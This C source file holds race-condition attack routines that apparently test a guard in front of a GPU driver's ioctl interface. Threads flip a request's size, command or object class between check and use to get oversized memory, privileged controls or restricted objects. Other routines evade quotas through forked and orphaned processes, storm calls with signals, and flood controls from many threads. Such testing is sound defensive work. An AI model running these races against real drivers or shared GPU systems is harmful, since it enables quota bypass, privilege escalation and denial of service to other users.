/* Structs that change while they are looked at, signals, floods. */
#include "attack.h"

#include <limits.h>
#include <signal.h>
#include <stdatomic.h>
#include <sys/time.h>
#include <time.h>

static atomic_bool stop;

struct flip {
    volatile void *place;
    uint64_t values[2];
    bool is_long;
};

static void *flipping (void *argument)
{
    struct flip *flip = argument;

    for (unsigned i = 0; !atomic_load (&stop); i++)
        if (flip->is_long)
            *(volatile uint64_t *) flip->place = flip->values[i & 1];
        else
            *(volatile uint32_t *) flip->place = (uint32_t) flip->values[i & 1];
    return NULL;
}

/* size-race ROUNDS: asks for 2 MiB and means 3 GiB. */
void attack_size_race (int argc, char **argv)
{
    struct bed bed = bed_open ();
    struct memory params = memory_of (2 * MIB);
    struct flip flip = { &params.size, { 2 * MIB, 3 * GIB }, true };
    unsigned given = 0, rounds = argc > 0 ? (unsigned) atoi (argv[0]) : 500;
    pthread_t thread;

    pthread_create (&thread, NULL, flipping, &flip);
    for (unsigned i = 0; i < rounds; i++) {
        struct alloc call = { bed.client, bed.device, bed.next++, 0x40, (uintptr_t) &params, 0, 0, 0, 0xffff, 0 };

        given += ioctl (bed.file, REQUEST (0x2b, sizeof (call)), &call) == 0 && call.status == 0;
    }
    atomic_store (&stop, true);
    pthread_join (thread, NULL);
    say ("given", given);
    hold ();
}

/* A harmless control that becomes one of the scheduler's. */
void attack_command_race (int argc, char **argv)
{
    static uint8_t params[2][16384];
    static const uint32_t harmless[][2] = { { 0x2080014a, 268 }, { 0x20801301, 16 }, { 0x3d08, 80 } };
    struct bed bed = bed_open ();
    unsigned made = 0, rounds = argc > 0 ? (unsigned) atoi (argv[0]) : 500;

    for (unsigned kind = 0; kind < 3; kind++) {
        struct control call = {
            bed.client, kind == 2 ? bed.client : bed.subdevice, harmless[kind][0], 0, (uintptr_t) params[0], harmless[kind][1],
            0xffff
        };
        struct flip flip = { &call.command, { harmless[kind][0], 0x2080110b }, false };
        pthread_t thread;

        atomic_store (&stop, false);
        pthread_create (&thread, NULL, flipping, &flip);
        for (unsigned i = 0; i < rounds; i++)
            made += ioctl (bed.file, REQUEST (0x2a, sizeof (call)), &call) == 0;
        atomic_store (&stop, true);
        pthread_join (thread, NULL);
    }
    say ("made", made);
}

/* A class that becomes video memory, until there are as many pieces as that. How many there were. */
static unsigned win (struct bed *bed, uint32_t class, unsigned rounds, unsigned most)
{
    struct memory params = memory_of (64 * MIB); /* its owner: the client of an event's object */
    struct alloc call = { bed->client, bed->device, 0, class, (uintptr_t) &params, 0, 0, 0, 0xffff, 0 };
    struct flip flip = { &call.number, { class, 0x40 }, false };
    unsigned given = 0;
    pthread_t thread;

    params.owner = class == 0x79 ? bed->client : params.owner;
    pthread_create (&thread, NULL, flipping, &flip);
    for (unsigned i = 0; i < rounds && given < most; i++) {
        call.object = bed->next++;
        call.status = 0xffff;
        given += ioctl (bed->file, REQUEST (0x2b, sizeof (call)), &call) == 0 && call.status == 0;
    }
    atomic_store (&stop, true);
    pthread_join (thread, NULL);
    return given;
}

static void race (uint32_t class, int argc, char **argv)
{
    struct bed bed = bed_open ();
    uint32_t handle;

    say ("given", win (&bed, class, argc > 0 ? (unsigned) atoi (argv[0]) : 2000, UINT_MAX));
    hold ();
    say ("more", bed_memory (&bed, &handle, 9 * GIB));
    hold ();
}

/* One that only the caller can make: a device. */
void attack_class_race (int argc, char **argv) { race (0x80, argc, argv); }

/* The same by a child, on its parent's client, to which the driver counts it: one piece when the quota is used up, and then a call by which the
 * guard finds what was made. */
void attack_heir_race (int argc, char **argv)
{
    struct bed bed = bed_open ();
    uint32_t handle;
    int status;
    pid_t child = fork ();

    if (child == 0) {
        while (bed_memory (&bed, &handle, 64 * MIB) == 0)
            continue;
        win (&bed, 0x80, argc > 0 ? (unsigned) atoi (argv[0]) : 2000, 1);
        bed_memory (&bed, &handle, 64 * MIB);
        _exit (0);
    }
    waitpid (child, &status, 0);
    say ("child", (uint64_t) status);
    hold ();
}

/* Wins one piece of so many bytes, on a client of a process that has ended. */
static void race_for_orphan (struct bed *bed, pid_t maker, uint64_t size)
{
    struct memory params = memory_of (size);
    struct alloc call = { bed->client, bed->device, 0, 0x80, (uintptr_t) &params, 0, 0, 0, 0xffff, 0 };
    struct flip flip = { &call.number, { 0x80, 0x40 }, false };
    pthread_t thread;

    while (getppid () == maker)
        usleep (1000);
    usleep (500000); /* until the guard knows that it has ended */
    pthread_create (&thread, NULL, flipping, &flip);
    do {
        call.object = bed->next++;
        call.status = 0xffff;
    } while (ioctl (bed->file, REQUEST (0x2b, sizeof (call)), &call) != 0 || call.status != 0);
}

/* orphan-race MIB: a process makes a client, uses the quota up and ends. A child of its wins a piece of so many MiB on that client and ends at once;
 * another one, which makes no call, has the file until this process ends. */
void attack_orphan_race (int argc, char **argv)
{
    uint64_t size = (uint64_t) (argc > 0 ? atoi (argv[0]) : 64) * MIB;
    int result[2], life[2];
    char won = 0;

    if (pipe (result) != 0 || pipe (life) != 0)
        exit (4);
    if (fork () == 0) {
        struct bed bed = bed_open ();
        pid_t maker = getpid ();
        uint32_t handle;

        close (life[1]);
        while (bed_memory (&bed, &handle, 64 * MIB) == 0)
            continue;
        if (fork () == 0) {
            close (result[1]);
            (void) !read (life[0], &won, 1);
            _exit (0);
        }
        if (fork () == 0) {
            race_for_orphan (&bed, maker, size);
            _exit (write (result[1], "w", 1) != 1);
        }
        _exit (0);
    }
    close (result[1]);
    say ("won", read (result[0], &won, 1) == 1);
    hold ();
}

/* An event, which the guard makes. */
void attack_event_race (int argc, char **argv) { race (0x79, argc, argv); }

static volatile unsigned rang;

static void ring (int number)
{
    (void) number;
    rang++;
}

/* storm ROUNDS RESTART: allocates and frees while an alarm rings every 50 microseconds. */
void attack_storm (int argc, char **argv)
{
    struct bed bed = bed_open ();
    struct sigaction action = { .sa_handler = ring, .sa_flags = argc > 1 && atoi (argv[1]) ? SA_RESTART : 0 };
    struct itimerval often = { { 0, 50 }, { 0, 50 } }, never = { { 0, 0 }, { 0, 0 } };
    unsigned bad = 0, interrupted = 0, rounds = argc > 0 ? (unsigned) atoi (argv[0]) : 2000;

    sigaction (SIGALRM, &action, NULL);
    setitimer (ITIMER_REAL, &often, NULL);
    for (unsigned i = 0; i < rounds; i++) {
        struct memory params = memory_of (2 * MIB);
        struct alloc call = { bed.client, bed.device, 0x5d000000, 0x40, (uintptr_t) &params, 0, 0, 0, 0xffff, 0 };
        struct release release = { bed.client, bed.device, 0x5d000000, 0xffff };
        int result;

        /* as libcuda does: what was interrupted is made again */
        while ((result = ioctl (bed.file, REQUEST (0x2b, sizeof (call)), &call)) < 0 && (errno == EINTR || errno == EAGAIN))
            interrupted++;
        if (result != 0 || call.status != 0)
            bad++, say ("alloc-result", (uint64_t) (result ? errno : 0)), say ("alloc-status", call.status);
        while ((result = ioctl (bed.file, REQUEST (0x29, sizeof (release)), &release)) < 0 && (errno == EINTR || errno == EAGAIN))
            interrupted++;
        if (result != 0 || release.status != 0)
            bad++, say ("free-result", (uint64_t) (result ? errno : 0)), say ("free-status", release.status);
    }
    setitimer (ITIMER_REAL, &never, NULL);
    say ("bad", bad);
    say ("interrupted", interrupted);
    say ("rang", rang);
    hold ();
}

static struct bed flooded;

static void *flooding (void *argument)
{
    uint8_t params[268] = { 0 };

    (void) argument;
    while (!atomic_load (&stop))
        bed_control (&flooded, flooded.subdevice, 0x2080014a, params, sizeof (params));
    return NULL;
}

/* flood THREADS: announces calls as fast as it can, until a line is said. */
void attack_flood (int argc, char **argv)
{
    pthread_t threads[64];
    int count = argc > 0 ? atoi (argv[0]) : 8;

    flooded = bed_open ();
    for (int i = 0; i < count && i < 64; i++)
        pthread_create (&threads[i], NULL, flooding, NULL);
    say ("flooding", (uint64_t) count);
    hold ();
    atomic_store (&stop, true);
    for (int i = 0; i < count && i < 64; i++)
        pthread_join (threads[i], NULL);
}
